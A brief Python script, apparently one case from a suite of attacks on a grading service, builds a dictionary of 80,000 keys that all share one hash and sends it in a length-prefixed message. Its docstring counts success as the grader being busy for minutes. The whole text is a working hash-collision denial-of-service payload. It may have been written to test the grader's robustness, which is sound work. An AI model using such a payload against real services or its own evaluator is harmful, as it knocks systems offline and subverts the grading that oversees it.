"""Sends a dict of 80,000 keys that have the same hash: each is compared with all others.

Success: the grader is busy for minutes.
Runs: alone
"""

pairs = ",".join(f"[{number * (2**61 - 1)},0]" for number in range(80_000))
header = ('{"!":"dict","items":[' + pairs + "]}").encode()
send(struct.pack(">IQ", len(header), 0) + header)
